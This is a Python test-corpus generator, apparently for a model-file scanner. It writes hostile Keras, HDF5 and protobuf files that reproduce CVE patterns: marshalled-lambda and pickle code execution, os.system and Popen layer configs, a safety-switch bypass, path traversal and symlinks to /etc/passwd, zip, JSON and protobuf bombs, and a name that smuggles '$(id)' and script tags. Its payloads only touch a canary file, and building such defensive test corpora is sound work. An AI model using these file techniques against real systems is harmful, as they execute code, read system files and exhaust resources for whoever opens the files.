"""Makes model files that attack whoever opens them: `python tests/hostile/corpus.py FOLDER`.

Each has a canary: the file ``canary`` that must not appear, a port on this machine that must not be
called, or a size that must not be allocated. Nothing is committed; a maker writes one file.
"""

from __future__ import annotations

import base64
import json
import marshal
import os
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]


@dataclass(frozen=True)
class Bait:
    """What the files reach for."""

    folder: Path
    port: int

    @property
    def canary(self) -> Path:
        return self.folder / "canary"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/vocabulary.txt"


@dataclass(frozen=True)
class Attack:
    """``hazard`` is the code that `inspect` must give; None: it must refuse the file (exit 2)."""

    name: str
    make: Callable[[Path, Bait], None]
    hazard: str | None


ATTACKS: list[Attack] = []


def attack(name: str, hazard: str | None) -> Callable[..., Callable[[Path, Bait], None]]:
    def add(make: Callable[[Path, Bait], None]) -> Callable[[Path, Bait], None]:
        ATTACKS.append(Attack(name, make, hazard))
        return make

    return add


def make_all(bait: Bait) -> dict[str, Path]:
    """Every file, by the attack's name."""
    made = {}
    for each in ATTACKS:
        path = bait.folder / each.name
        each.make(path, bait)
        made[each.name] = path
    return made


# -- parts


def keras3(class_name: str, config: Any, module: str = "keras.layers") -> Config:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def function(module: str, name: str) -> Config:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def archived(path: Path, *layers: Config, **members: bytes) -> None:
    """A ``.keras`` archive of a Sequential with an input of four numbers."""
    first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    root = keras3("Sequential", {"name": "m", "layers": [first, *layers]}, "keras")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        archive.writestr("config.json", json.dumps(root))
        archive.writestr("model.weights.h5", b"")
        for name, content in members.items():
            archive.writestr(name, content)


def legacy(*layers: Config) -> str:
    """The config of the same model, as Keras 2 writes it."""
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input"},
    }
    return json.dumps(
        {"class_name": "Sequential", "config": {"name": "m", "layers": [first, *layers]}}
    )


def dense(**extra: Any) -> Config:
    return {
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": "linear", **extra},
    }


def stored(path: Path, *layers: Config) -> h5py.File:
    """An HDF5 model; the caller adds to it and closes it."""
    file = h5py.File(path, "w")
    file.attrs["model_config"] = legacy(*(layers or (dense(),)))
    file.attrs["keras_version"] = "2.10.0"
    file.attrs["backend"] = "tensorflow"
    file.create_group("model_weights").create_group("dense")
    return file


def code(bait: Bait) -> str:
    """A marshalled function of this Python that leaves the canary."""
    source = f"lambda x: (__import__('pathlib').Path({str(bait.canary)!r}).touch(), x)[1]"
    compiled = eval(compile(source, "<attack>", "eval")).__code__
    return base64.b64encode(marshal.dumps(compiled)).decode()


def field(number: int, payload: bytes) -> bytes:
    size, data = len(payload), bytes([number << 3 | 2])
    while size > 127:
        data, size = data + bytes([size & 127 | 128]), size >> 7
    return data + bytes([size]) + payload


# -- code in the file


@attack("CVE-2024-3660.h5", "lambda")
@attack("CVE-2025-9905.h5", "lambda")
def lambda_in_hdf5(path: Path, bait: Bait) -> None:
    config = {"name": "evil", "function": [code(bait), None, None], "function_type": "lambda"}
    config |= {"output_shape": None, "output_shape_type": "raw", "arguments": {}, "module": "m"}
    stored(path, {"class_name": "Lambda", "config": config}, dense()).close()


def _lambda(bait: Bait) -> Config:
    value = {"code": code(bait), "defaults": None, "closure": None}
    inner = {"class_name": "__lambda__", "config": value}
    return keras3("Lambda", {"name": "evil", "function": inner, "output_shape": [4]})


@attack("CVE-2024-3660.keras", "lambda")
def lambda_in_archive(path: Path, bait: Bait) -> None:
    archived(path, _lambda(bait))


@attack("CVE-2025-1550.keras", "unsafe-config")
def any_function(path: Path, bait: Bait) -> None:
    layer = function("os", "system")
    layer["inbound_nodes"] = [{"args": [f"touch {bait.canary}"], "kwargs": {}}]
    archived(path, layer)


@attack("CVE-2025-1550-activation.keras", "unsafe-config")
def any_function_as_activation(path: Path, _: Bait) -> None:
    config = {"name": "dense", "units": 2, "activation": function("os", "getcwd")}
    archived(path, keras3("Dense", config))


@attack("CVE-2025-8747.keras", "unsafe-config")
@attack("CVE-2025-12060.keras", "unsafe-config")
@attack("CVE-2025-12638.keras", "unsafe-config")
def get_file(path: Path, bait: Bait) -> None:
    layer = function("keras.utils", "get_file")
    arguments = {"origin": bait.url, "extract": True, "cache_dir": str(bait.folder)}
    layer["inbound_nodes"] = [{"args": ["canary"], "kwargs": arguments}]
    archived(path, layer)


@attack("CVE-2025-9906.keras", "unsafe-config")
def switches_safety_off(path: Path, bait: Bait) -> None:
    switch = function("keras.config", "enable_unsafe_deserialization")
    switch["inbound_nodes"] = [{"args": [], "kwargs": {}}]
    archived(path, switch, _lambda(bait))


@attack("CVE-2025-12058-file.keras", "external-vocabulary")
def vocabulary_file(path: Path, bait: Bait) -> None:
    os.mkfifo(bait.folder / "vocabulary")  # whoever opens it hangs
    config = {"name": "lookup", "vocabulary": str(bait.folder / "vocabulary")}
    archived(path, keras3("StringLookup", config))


@attack("CVE-2025-12058-url.h5", "external-vocabulary")
def vocabulary_url(path: Path, bait: Bait) -> None:
    config = {"name": "lookup", "vocabulary": bait.url, "dtype": "string"}
    stored(path, {"class_name": "StringLookup", "config": config}).close()


@attack("CVE-2026-1462.keras", "tfsm-layer")
def outside_savedmodel(path: Path, bait: Bait) -> None:
    archived(path, keras3("TFSMLayer", {"name": "evil", "filepath": str(bait.folder / "sm")}))


@attack("torch-module.keras", "torch-module")
def pickled_module(path: Path, bait: Bait) -> None:
    pickled = base64.b64encode(f"cos\nsystem\n(S'touch {bait.canary}'\ntR.".encode()).decode()
    module = {"class_name": "__bytes__", "config": {"value": pickled}}
    archived(path, keras3("TorchModuleWrapper", {"name": "evil", "module": module}))


@attack("standard-library.keras", "unsafe-config")
def standard_library(path: Path, bait: Bait) -> None:
    config = {"args": ["touch", str(bait.canary)]}
    archived(path, keras3("Popen", config, "subprocess"))


# -- ops that touch files


def _const(name: str, text: str) -> bytes:
    tensor = field(4, b"\x08\x07" + field(2, b"") + field(8, text.encode()))[2:]
    value = field(8, tensor)
    kind = field(5, field(1, b"dtype") + field(2, b"\x30\x07"))
    return field(1, field(1, name.encode()) + field(2, b"Const") + kind
                 + field(5, field(1, b"value") + field(2, value)))  # fmt: skip


@attack("write-file.pb", "file-op")
def writes_a_file(path: Path, bait: Bait) -> None:
    write = field(1, b"evil") + field(2, b"WriteFile") + field(3, b"a") + field(3, b"b")
    path.write_bytes(_const("a", str(bait.canary)) + _const("b", "x") + field(1, write))


# -- archives


def _named(name: str) -> Callable[[Path, Bait], None]:
    def make(path: Path, _: Bait) -> None:
        archived(path, keras3("Dense", {"name": "d", "units": 2}), **{name: b"x"})

    return make


for _index, _name in enumerate(
    ("../canary", "/tmp/canary", "a/../../canary", "C:/canary", "..\\canary", "a\x1b[31mb\n")
):
    attack(f"GHSA-hqp4-2352-xf5r-{_index}.keras", None)(_named(_name))


@attack("archive-link.keras", None)
def archive_link(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        link = zipfile.ZipInfo("config.json")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")


@attack("archive-bomb.keras", None)
def archive_bomb(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", b" " * 2**26)


@attack("archive-twice.keras", None)
def archive_twice(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", legacy(dense()))
        archive.filelist[0].filename = "other"
        archive.NameToInfo.clear()
        archive.writestr("config.json", legacy(dense()))
        archive.filelist[0].filename = "config.json"


@attack("archive-nested.keras", None)
def archive_nested(path: Path, _: Bait) -> None:
    inner = path.with_suffix(".inner")
    archive_bomb(inner, _)
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(inner, "config.json")
    inner.unlink()


@attack("archive-directory.keras", None)
def archive_directory(path: Path, _: Bait) -> None:
    """A directory of 3 GB, most of it a hole in the file."""
    size = 3 * 2**30
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 60_000, 60_000, size, 30, 0)
    with path.open("wb") as file:
        file.write(b"PK\x03\x04" + b"\0" * 26)
        file.truncate(30 + size)
        file.seek(0, 2)
        file.write(end)


@attack("archive-members.keras", None)
def archive_members(path: Path, _: Bait) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for index in range(10_001):
            archive.writestr(f"{index}", b"")


# -- HDF5


@attack("CVE-2026-1669-link.h5", "external-file")
def external_link(path: Path, bait: Bait) -> None:
    os.mkfifo(bait.folder / "elsewhere.h5")
    with stored(path) as h5:
        h5["model_weights/dense/kernel"] = h5py.ExternalLink(str(bait.folder / "elsewhere.h5"), "k")


@attack("CVE-2026-1669-component.h5", "external-file")
def external_link_above(path: Path, _: Bait) -> None:
    with stored(path) as h5:
        del h5["model_weights"]
        h5["model_weights"] = h5py.ExternalLink("/etc/passwd", "/")


@attack("CVE-2026-1669-storage.h5", "external-file")
def external_storage(path: Path, _: Bait) -> None:
    with stored(path) as h5:
        h5.create_dataset("model_weights/dense/k", (4,), "u1", external=[("/etc/passwd", 0, 4)])


@attack("hdf5-virtual.h5", "external-file")
def virtual_dataset(path: Path, bait: Bait) -> None:
    os.mkfifo(bait.folder / "source.h5")
    layout = h5py.VirtualLayout((4,), "f4")
    layout[:] = h5py.VirtualSource(str(bait.folder / "source.h5"), "x", (4,))
    with stored(path) as h5:
        h5.create_virtual_dataset("model_weights/dense/kernel", layout)


@attack("hdf5-soft-cycle.h5", "external-file")
def soft_cycle(path: Path, _: Bait) -> None:
    with stored(path) as h5:
        h5["model_weights/a"] = h5py.SoftLink("/model_weights/b")
        h5["model_weights/b"] = h5py.SoftLink("/model_weights/a")
        h5["model_weights/dense/up"] = h5["model_weights"]


@attack("GHSA-xfhx-r7ww-5995.h5", "lambda")
def shape_bomb(path: Path, bait: Bait) -> None:
    """Weights of a pebibyte; the Lambda only shows that the file is read to its end."""
    lambda_in_hdf5(path, bait)
    with h5py.File(path, "a") as h5:
        h5.create_dataset("model_weights/dense/kernel", (2**48,), "f4", chunks=(2**20,))


@attack("hdf5-attribute-bomb.h5", None)
def attribute_bomb(path: Path, _: Bait) -> None:
    with h5py.File(path, "w", libver="latest") as h5:
        h5.attrs["model_config"] = np.bytes_(b" " * (40 * 2**20))


@attack("hdf5-attribute-shape.h5", None)
def attribute_shape(path: Path, _: Bait) -> None:
    with h5py.File(path, "w", libver="latest") as h5:
        h5.attrs.create("model_config", np.zeros(2**20, "S8"))


# -- configs


def _text(path: Path, text: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", text)


@attack("json-deep.keras", None)
def json_deep(path: Path, _: Bait) -> None:
    _text(path, b'{"config":' * 300 + b"1" + b"}" * 300)


@attack("json-deeper.keras", None)
def json_deeper(path: Path, _: Bait) -> None:
    _text(path, b"[" * 1_000_000)


@attack("json-values.keras", None)
def json_values(path: Path, _: Bait) -> None:
    _text(path, b'{"a":[' + b"[]," * 3_000_000 + b"0]}")


@attack("json-number.keras", None)
def json_number(path: Path, _: Bait) -> None:
    _text(path, b'{"a":' + b"9" * 1_000_000 + b"}")


@attack("path-bomb.keras", None)
def path_bomb(path: Path, _: Bait) -> None:
    """Each layer's path holds the name of the model above it."""
    layers = [keras3("Dense", {"name": "d", "units": 1})] * 10_000
    archived(path, keras3("Sequential", {"name": "x" * 2**20, "layers": layers}, "keras"))


@attack("bidirectional-bomb.h5", None)
def bidirectional_bomb(path: Path, _: Bait) -> None:
    layer = {"class_name": "LSTM", "config": {"name": "l", "units": 1}}
    for _level in range(60):
        layer = {"class_name": "Bidirectional", "config": {"name": "b", "layer": layer}}
    stored(path, layer).close()


NAME = "a\x1b]0;x\x07/../<script>alert(1)</script>|`$(id)`\r\n::error::"


@attack("names.h5", "custom-layer")
def names(path: Path, _: Bait) -> None:
    stored(path, {"class_name": NAME, "config": {"name": NAME}}, dense()).close()


@attack("protobuf-deep.pb", None)
def protobuf_deep(path: Path, _: Bait) -> None:
    data = b""
    for _level in range(20_000):
        data = field(1, data)
    path.write_bytes(data)


@attack("protobuf-size.pb", None)
def protobuf_size(path: Path, _: Bait) -> None:
    path.write_bytes(
        field(1, field(1, b"x") + field(2, b"Const")) + b"\x0a\xff\xff\xff\xff\xff\x7f"
    )


if __name__ == "__main__":
    (folder,) = map(Path, sys.argv[1:])
    folder.mkdir(parents=True, exist_ok=True)
    for _made in make_all(Bait(folder, 9)).values():
        print(_made)
